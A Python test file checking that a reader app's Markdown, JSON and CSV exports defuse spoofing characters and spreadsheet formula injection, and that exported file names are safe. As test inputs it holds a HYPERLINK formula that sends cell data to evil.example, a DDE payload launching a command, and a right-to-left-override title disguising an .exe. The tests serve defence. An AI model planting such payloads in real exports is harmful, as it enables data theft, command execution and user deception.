"""Exports keep the person's text but never spoof or run: issue 11, items 2, 3 and 7.

Titles lose what could spoof them (bidi overrides, tags, fillers: shown visibly or left
out), CSV cells never start a formula, and `export --all` names fit any file system and a
long CJK title fails nothing.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from reader.core.export.folder import export_all, file_name
from reader.core.export.formats import to_json, to_markdown, to_readwise_csv
from reader.core.model.document import ArticleBuilder, BlockKind, Metadata
from reader.core.store.store import Store
from tests.core.test_export import EXPORTED, highlight, record

SPOOF = "Invoice \u202efdp.exe\u202c\U000e0041\U000e0042 \u3164"
CJK = "長い題名" * 30
NAME_MAX = 255
"""Bytes in a file name on ext4, APFS and most others."""
TEMPORARY_EXTRA = len("..12345678.tmp")
"""What files._temporary adds to a name: a leading dot, a dot, eight hex digits, .tmp."""


def test_markdown_title_and_front_matter_show_spoofing_characters() -> None:
    note = "keep \u202e this \U000e0041 as written"
    markdown = to_markdown(
        record(title=SPOOF), [highlight("words", note=note)], [], exported=EXPORTED
    )
    head = markdown.split("## Highlights")[0]
    assert "\u202e" not in head and "\U000e0041" not in head and "\u3164" not in head
    assert "title: Invoice <U+202E>fdp.exe<U+202C> <U+3164>" in head
    assert "# Invoice \\<U+202E\\>fdp.exe" in head
    assert note in markdown  # the note itself is the person's, kept as written


def test_json_is_exact_but_escapes_what_a_terminal_acts_on() -> None:
    note = "\x9b2J \u202e\U000e0041"
    exported = to_json(record(title=SPOOF), [highlight("words", note=note)], [], exported=EXPORTED)
    assert "\u202e" not in exported and "\x9b" not in exported and "\U000e0041" not in exported
    data = json.loads(exported)
    assert data["label"] == SPOOF
    assert data["first"]["items"][0]["body"]["value"] == note


@pytest.mark.parametrize(
    "note",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\tx",
        "\r=1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_csv_cells_never_start_a_formula(note: str) -> None:
    document = record(title="=cmd|' /C calc'!A0", author="@author", url="-x")
    table = list(csv.reader(io.StringIO(to_readwise_csv(document, [highlight(note)]), newline="")))
    row = table[1]
    for cell in (row[0], row[1], row[2], row[3]):
        assert cell.startswith("'"), row
    assert row[0] == "'" + note


def test_csv_title_shows_spoofing_characters() -> None:
    table = list(csv.reader(io.StringIO(to_readwise_csv(record(title=SPOOF), [highlight("w")]))))
    assert table[1][1] == "Invoice <U+202E>fdp.exe<U+202C> <U+3164>"


def test_file_name_is_cut_by_bytes_with_room_for_the_longest_variant() -> None:
    name = file_name(record(title=CJK))
    longest = name.removesuffix(".md") + ".reader-9.md"
    assert len(longest.encode()) + TEMPORARY_EXTRA <= NAME_MAX
    assert CJK.startswith(name.split(" (")[0])  # cut between characters, never inside one


def test_file_name_drops_fillers_and_tags() -> None:
    assert file_name(record(title="\u3164\u115f\U000e0041")) == f"Untitled ({'0f' * 4}).md"


def add(store: Store, title: str) -> str:
    builder = ArticleBuilder()
    builder.add(BlockKind.PARAGRAPH, f"{title} happened on Monday.")
    return store.add_document(builder.build(Metadata(title=title))).id


def test_export_all_writes_a_long_cjk_title_and_goes_on(tmp_path: Path) -> None:
    store = Store.memory()
    add(store, CJK)
    add(store, "Second story")
    report = export_all(store, tmp_path / "vault", exported=EXPORTED, with_analysis=False)
    assert report.failed == []
    assert len(report.written) == 2


def test_export_all_goes_on_past_a_symbolic_link_to_a_folder(tmp_path: Path) -> None:
    store = Store.memory()
    first = add(store, "First story")
    add(store, "Second story")
    vault = tmp_path / "vault"
    vault.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    record_of = {summary.record.id: summary.record for summary in store.documents()}
    (vault / file_name(record_of[first])).symlink_to(elsewhere, target_is_directory=True)
    report = export_all(store, vault, exported=EXPORTED, with_analysis=False)
    assert report.failed == []
    assert len(report.written) == 2
    assert list(elsewhere.iterdir()) == []  # nothing written through the link
